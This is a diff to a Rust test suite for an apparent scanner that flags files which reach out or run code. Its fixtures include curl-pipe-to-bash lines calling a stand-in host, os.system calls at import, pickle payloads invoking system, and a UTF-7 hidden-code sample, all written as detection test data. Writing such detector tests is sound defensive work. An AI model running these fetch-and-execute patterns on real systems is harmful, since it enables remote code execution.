@@ -105,6 +105,7 @@ fn settings_that_reach_out_are_found() {
         ("requirements.txt", "--extra-index-url http://h.example/simple\n", "source-elsewhere"),
         ("x.pth", "import os; os.system('true')\n", "python-runs-at-import"),
         ("sitecustomize.py", "x = 1\n", "script-effect"),
+        ("x.py", "# -*- coding: utf-7 -*-\n+AGk-", "python-hidden-code"),
         ("handler.py", "import os\nos.system('true')\n", "python-runs-at-import"),
         ("install.sh", "curl -s http://h.example/x \\\n | sudo bash\n", "script-effect"),
         ("run", "#!/bin/bash\nbash -c \"$(curl http://h.example)\"\n", "script-effect"),
@@ -193,6 +194,8 @@ fn honest_files_are_clean() {
         ),
         (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
         ("lgb.txt", "tree\nversion=v4\nTree=0\nleaf_value=0.1\n\nend of trees\n"),
+        ("a.py", "# vim: set fileencoding=utf-8 :\nx = 1\n"),
+        ("notes.txt", "Some notes on the model.\nThey end with a dot.\n"),
         ("merges.txt", "#version: 0.2\nĠ t\no s\n"),
         (
             "n.ipynb",
@@ -209,7 +212,13 @@ fn what_is_no_json_or_no_text_is_not_clean() {
     assert_eq!(judged("config.json", "{'a': 1}").verdict, Verdict::Inconclusive);
     assert_eq!(rules_of("config.json", "{\0}"), ["name-against-content"]);
     assert_eq!(rules_of("x.gguf", "{}"), ["name-against-content"]);
-    assert_eq!(judged("a.txt", "cos\nsystem\n(S'true'\ntR.").verdict, Verdict::Inconclusive);
+    for name in ["a.txt", "a.pth", "a.md"] {
+        for text in
+            ["cos\nsystem\n(S'true'\ntR.", "(S'true'\nios\nsystem\n.", "(lp0\n(dp1\ncposix\nsystem\np2\n."]
+        {
+            assert_eq!(judged(name, text).verdict, Verdict::Inconclusive, "{name} {text}");
+        }
+    }
 }
 
 proptest! {
